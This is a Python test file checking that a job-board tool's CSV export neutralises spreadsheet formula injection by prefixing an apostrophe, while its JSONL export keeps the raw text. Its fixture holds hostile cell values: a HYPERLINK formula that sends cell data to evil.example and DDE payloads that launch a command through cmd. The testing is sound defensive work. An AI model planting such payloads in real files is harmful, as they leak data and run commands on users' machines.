"""What hostile or unlucky input does to `hitboard`: nothing runs, nothing is lost, one line."""

import csv
import json

from store.db import init_db, session_scope
from store.postings import upsert_postings
from tests.cli.boards import hitboard, hitboard_env
from tests.store.records import T0, posting

# Cells a spreadsheet would run as formulas (OWASP's list of leading characters).
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Medical Coder")',
    "company": "+1+cmd|' /C calc'!A0",
    "location": "-2+3",
    "salary_text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "employment_type": "\tFull-time",
    "description_text": "\r=1+1",
}


def _store_hostile_posting(tmp_path) -> str:
    url = f"sqlite:///{tmp_path / 'hitboard.db'}"
    engine = init_db(url)
    with session_scope(engine) as session:
        hostile = posting(1, **FORMULAS, certifications=["=RHIT", "CCS"])
        upsert_postings(session=session, records=[hostile, posting(2)], seen_at=T0, run_id=1)
    engine.dispose()
    return url


def test_csv_export_neutralizes_formulas_and_jsonl_keeps_the_raw_text(tmp_path):
    db = _store_hostile_posting(tmp_path)
    env = hitboard_env(tmp_path)
    out = tmp_path / "postings.csv"
    result = hitboard("export", "--format", "csv", "--db", db, "--out", str(out), env=env)
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as handle:  # a carriage return stays one
        rows = {row["external_id"]: row for row in csv.DictReader(handle)}
    hostile = rows["job-1"]
    for field, text in FORMULAS.items():
        assert hostile[field] == "'" + text, field
    assert hostile["certifications"] == "'=RHIT;CCS"
    # Plain text and numbers are written as they are.
    assert rows["job-2"]["title"] == "Medical Records Specialist 2"
    assert rows["job-2"]["salary_min"] == "20.0"

    lines = hitboard("export", "--format", "jsonl", "--db", db, env=env, timeout=60)
    assert lines.returncode == 0, lines.stderr
    raw = {r["external_id"]: r for r in map(json.loads, lines.stdout.splitlines())}
    assert {field: raw["job-1"][field] for field in FORMULAS} == FORMULAS
